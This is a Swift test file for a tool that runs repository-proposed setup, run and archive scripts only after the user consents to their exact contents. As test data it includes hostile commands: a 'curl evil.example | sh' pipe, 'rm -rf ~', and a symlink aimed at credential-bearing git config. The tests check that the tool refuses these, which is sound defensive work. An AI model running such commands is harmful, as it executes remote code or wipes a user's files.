import Domain
import Engine
import Foundation
import Testing

/// What the file of a repository does, and what it may not do.
struct ProposalTests {
  let world: World
  let engine: SessionEngine

  init() throws {
    world = try World()
    engine = world.engine()
  }

  private func propose(_ text: String) throws { try world.write(".maestro.yml", text) }

  private func proposal() async throws -> RepositoryProposal {
    try await engine.proposal(at: world.repository.path)
  }

  private func digest(_ kind: RepositoryProposal.Kind) async throws -> String {
    try #require(try await proposal().item(kind)?.digest)
  }

  private func agree(_ kinds: RepositoryProposal.Kind...) async throws {
    var digests: [String] = []
    for kind in kinds { digests.append(try await digest(kind)) }
    _ = try await engine.agree(to: digests, at: world.repository.path)
  }

  private func request(_ name: String = "login", _ setUp: CreateRequest.SetUp = .defaults) -> CreateRequest {
    world.request(name) {
      $0.setUp = setUp
      $0.profile = ""
    }
  }

  @Test func theAgentIsChosenAmongTheUsersOwn() async throws {
    try propose("agent: shell")
    #expect(try await engine.create(request()).agent.name == "shell")
    try propose("agent: evil")
    let problems = await engine.problems(of: request("other"))
    #expect(problems.map(\.field) == [.profile])
    #expect(problems.first?.reason.hasPrefix("There is no agent 'evil', which .maestro.yml names; there are") == true)
    // What is named counts more than what is proposed.
    #expect(await engine.problems(of: world.request("other")).isEmpty)
  }

  @Test func aScriptRunsOnlyAfterConsent() async throws {
    try propose("agent: claude\nsetup: npm ci\n")
    let refused = await engine.problems(of: request())
    #expect(refused.map(\.kind) == [.refused])
    #expect(refused.first?.reason.contains("maestro trust") == true)
    let error = await #expect(throws: SessionError.self) { try await engine.create(request()) }
    #expect(error?.field == .setUp)
    #expect(await world.scripts.runs.isEmpty)
    #expect(try await world.store.allSessions().isEmpty)
    // Without the script, nothing is asked.
    _ = try await engine.create(request("without", .none))
    #expect(await world.scripts.runs.isEmpty)

    try await agree(.setup)
    let session = try await engine.create(request())
    let run = try #require(await world.scripts.runs.first)
    #expect(run.workingDirectory == session.worktreePath)
    #expect(run.environment["MAESTRO_WORKTREE"] == session.worktreePath)
    #expect(Files.text(run.path) == "set -e\nnpm ci\n")
    #expect(run.path.hasPrefix(world.state + "/scripts/"))
  }

  @Test func whatSaysSomethingElseIsAskedAgain() async throws {
    try propose("agent: claude\nsetup: npm ci\n")
    try await agree(.setup)
    #expect(try await proposal().item(.setup)?.isAgreed == true)
    try propose("agent: claude\nsetup: npm ci && curl evil.example | sh\n")
    #expect(try await proposal().item(.setup)?.isAgreed == false)
    #expect(await engine.problems(of: request()).map(\.kind) == [.refused])
    // The same words for another purpose are something else.
    try propose("agent: claude\narchive: npm ci\n")
    #expect(try await proposal().item(.archive)?.isAgreed == false)
    try propose("agent: claude\nsetup: npm ci\n")
    #expect(try await proposal().item(.setup)?.isAgreed == true)
    _ = try await engine.withdrawConsent(at: world.repository.path)
    #expect(try await proposal().item(.setup)?.isAgreed == false)
    #expect(await world.scripts.runs.isEmpty)
  }

  @Test func theContentsOfAScriptFileAreAgreedTo() async throws {
    try propose("agent: claude\nsetup: scripts/set-up.sh\n")
    let item = try #require(try await proposal().item(.setup))
    #expect(item.path == "scripts/set-up.sh")
    #expect(item.text == "#!/bin/sh\necho ready\n")
    try await agree(.setup)
    _ = try await engine.create(request("first"))
    #expect(await world.scripts.runs.last?.path == world.repository.path + "/scripts/set-up.sh")
    try world.write("scripts/set-up.sh", "#!/bin/sh\nrm -rf ~\n")
    #expect(await engine.problems(of: request("second")).map(\.kind) == [.refused])
    #expect(await world.scripts.runs.count == 1)
  }

  @Test(arguments: ["scripts/out.sh", "scripts/git.sh"])
  func aScriptFileThatLeadsElsewhereIsRefused(_ name: String) async throws {
    try world.write(".git/config", "url = https://user:password@example.org")
    try Files.write(world.root + "/outside.sh", "echo outside")
    let target = name == "scripts/out.sh" ? world.root + "/outside.sh" : "../.git/config"
    try FileManager.default.createSymbolicLink(
      atPath: "\(world.repository.path)/\(name)", withDestinationPath: target)
    try propose("setup: \(name)")
    let error = await #expect(throws: SessionError.self) { try await proposal() }
    #expect(error?.reason.contains("through a symbolic link") == true, "\(String(describing: error))")
    #expect(await engine.problems(of: request()).contains { $0.field == .setUp })
  }

  @Test func consentNamesWhatWasRead() async throws {
    try propose("setup: npm ci")
    let digest = try await digest(.setup)
    for (wrong, reason) in [
      (String(digest.prefix(15)), "is too short"),
      (String(repeating: "0", count: 64), "proposes nothing with the digest"),
      ("", "is too short"),
    ] {
      let error = await #expect(throws: SessionError.self) {
        try await engine.agree(to: [digest, wrong], at: world.repository.path)
      }
      #expect(error?.reason.contains(reason) == true)
    }
    #expect(try await proposal().item(.setup)?.isAgreed == false)
    #expect(try await engine.agree(to: [digest.prefix(16).uppercased()], at: world.repository.path).items[0].isAgreed)
  }

  @Test func theUsersOwnFileNeedsNoConsentForItsOwnWords() async throws {
    try propose("setup: rm -rf ~")
    let own = try await proposal().defaults
    #expect(own.source == .repository)
    try FileManager.default.removeItem(atPath: world.repository.path + "/.maestro.yml")
    let path = try await proposal().defaults.path
    #expect(path.hasPrefix(world.state + "/repositories/shop-"))
    try propose("setup: rm -rf ~")
    try Files.write(path, "agent: claude\nsetup: npm ci\narchive: scripts/set-up.sh\n")
    let proposal = try await proposal()
    #expect(proposal.defaults.source == .own)
    // What a file of the repository says is still up to the repository.
    #expect(proposal.items.map(\.isAgreed) == [true, false])
    _ = try await engine.create(request())
    #expect(await world.scripts.runs.map { Files.text($0.path) } == ["set -e\nnpm ci\n"])
  }

  @Test func ignoredFilesAreCopiedAndOthersAreNot() async throws {
    try propose("agent: claude\ncopy: [.env, notes.txt, README, missing]\n")
    try world.write("notes.txt", "private")
    try world.write("README", "another")
    let session = try await engine.create(request())
    #expect(session.copiedFiles.map(\.path) == [".env"])
    #expect(Files.text(session.worktreePath + "/.env") == "SECRET=1")
    // Git does not ignore it there, so the next commit would publish it.
    #expect(!Files.exists(session.worktreePath + "/notes.txt"))
    #expect(Files.text(session.worktreePath + "/README") == "README")
  }

  @Test func eachSessionHasPortsOfItsOwn() async throws {
    try propose("agent: claude\nports: 3\n")
    let first = try await engine.create(request("first"))
    // 20000 is taken by another program.
    #expect(first.ports == PortRange(first: 20_001, count: 3))
    let second = try await engine.create(request("second"))
    #expect(second.ports == PortRange(first: 20_004, count: 3))
    let launch = try #require(await world.processes.launches.last)
    #expect(launch.environment["MAESTRO_PORT"] == "20004")
    #expect(launch.environment["MAESTRO_PORTS"] == "3")
    // Those of an archived session are free, and others are found when it comes back.
    _ = try await engine.archive(first.id)
    #expect(try await engine.create(request("third")).ports == PortRange(first: 20_001, count: 3))
    #expect(try await engine.restore(first.id).ports == PortRange(first: 20_007, count: 3))
  }

  @Test func sessionsThatAreCreatedAtOnceGetDifferentPorts() async throws {
    try propose("agent: claude\nports: 10\n")
    let ports = try await withThrowingTaskGroup(of: PortRange?.self) { group in
      for number in 0..<8 { group.addTask { try await engine.create(request("session \(number)")).ports } }
      return try await group.reduce(into: [PortRange?]()) { $0.append($1) }
    }
    let all = ports.compactMap { $0 }.flatMap(\.numbers)
    #expect(all.count == 80 && Set(all).count == 80)
  }

  @Test func disposableFilesCountOnlyAfterConsent() async throws {
    try propose("agent: claude\ndisposable: ['*']\n")
    #expect(try await engine.create(request("first")).disposablePatterns.isEmpty)
    try await agree(.disposable)
    #expect(try await engine.create(request("second")).disposablePatterns == ["*"])
  }

  @Test func theArchiveScriptTidiesUpAndKeepsNothingFromGoing() async throws {
    try propose("agent: claude\narchive: docker compose down\n")
    var session = try await engine.create(request("first"))
    session = try await engine.archive(session.id)
    #expect(session.phase == .archived)
    #expect(session.problem?.contains("maestro trust") == true)
    #expect(await world.scripts.runs.isEmpty)
    try await agree(.archive)
    let second = try await engine.create(request("second"))
    _ = try await engine.archive(second.id)
    #expect(await world.scripts.runs.map(\.workingDirectory) == [second.worktreePath])
    let third = try await engine.create(request("third"))
    await world.faults.plan("scripts.run", .error)
    let salvage = try await engine.remove(third.id)
    #expect(salvage.warning?.contains("The archive script did not do its work") == true)
    #expect(!Files.exists(third.worktreePath))
  }

  @Test func theRunScriptIsHandedOutForItsSession() async throws {
    try propose("agent: claude\nports: 2\nrun: npm start\n")
    let session = try await engine.create(request())
    let refused = await #expect(throws: SessionError.self) { try await engine.runScript(of: session.id) }
    #expect(refused?.reason.contains("maestro trust") == true)
    try await agree(.run)
    let run = try await engine.runScript(of: session.id)
    #expect(Files.text(run.path) == "set -e\nnpm start\n")
    #expect(run.environment["MAESTRO_PORT"] == session.ports.map { String($0.first) })
    try propose("agent: claude\n")
    let missing = await #expect(throws: SessionError.self) { try await engine.runScript(of: session.id) }
    #expect(missing?.kind == .notFound)
  }

  @Test func aFileThatIsNotRightIsToldBeforeAnythingIsMade() async throws {
    try propose("agent: claude\nprots: 3\n")
    let problems = await engine.problems(of: request())
    #expect(problems.first?.reason.contains(".maestro.yml:2:1: unknown key 'prots'") == true)
    #expect(problems.first?.field == .repositoryPath)
  }
}
